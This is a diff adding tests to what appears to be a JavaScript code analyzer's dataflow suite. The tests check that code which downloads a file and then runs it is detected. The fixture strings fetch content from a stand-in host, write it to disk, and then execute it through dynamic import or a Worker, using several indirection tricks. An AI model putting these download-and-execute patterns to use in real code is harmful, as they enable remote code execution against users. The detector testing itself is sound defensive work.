@@ -32,4 +32,42 @@ describe('what was downloaded is started', () => {
       false,
     );
   });
+
+  const LOAD = `import { join } from 'node:path';\nimport { pathToFileURL } from 'node:url';\nimport { writeFile } from 'node:fs/promises';\nimport { Worker } from 'node:worker_threads';
+  const store = async (file) => writeFile(file, await (await fetch('https://a.weir.test/x')).text());\n`;
+
+  function loadsDownload(code: string): boolean {
+    return analyzeJs(LOAD + code).flow.flows.some(
+      ({ sink, labels }) => sink !== 'file-write' && (labels & LABEL.dropped) !== 0,
+    );
+  }
+
+  test.each([
+    ['by its path', `const file = join(dir, name); await store(file); await import(file);`],
+    [
+      'by its address',
+      `const file = join(dir, name); await store(file); await import(pathToFileURL(file).href);`,
+    ],
+    ['by a text', 'const file = join(dir, name); await store(file); await import(`file://${file}`);'],
+    [
+      'by what a function gives',
+      `async function put() { const file = join(dir, name); await store(file); return pathToFileURL(file).toString(); }
+       export const use = async () => (await import(await put())).default;`,
+    ],
+    [
+      'by a method',
+      `class Packs { async put(name) { const file = join(dir, name); await store(file); return String(new URL('file://' + file)); }
+       get(name) { return this.put(name); } }
+       const packs = new Packs(); const found = await packs.get('a'); await import(found);`,
+    ],
+    ['in a worker', `const file = join(dir, name); await store(file); new Worker(file);`],
+  ])('what was downloaded is imported %s', (_what, code) => {
+    expect(loadsDownload(code)).toBe(true);
+  });
+
+  test('another file that is imported is none', () => {
+    expect(
+      loadsDownload(`const file = join(dir, name); await store(file); await import(join(dir, 'own.js'));`),
+    ).toBe(false);
+  });
 });
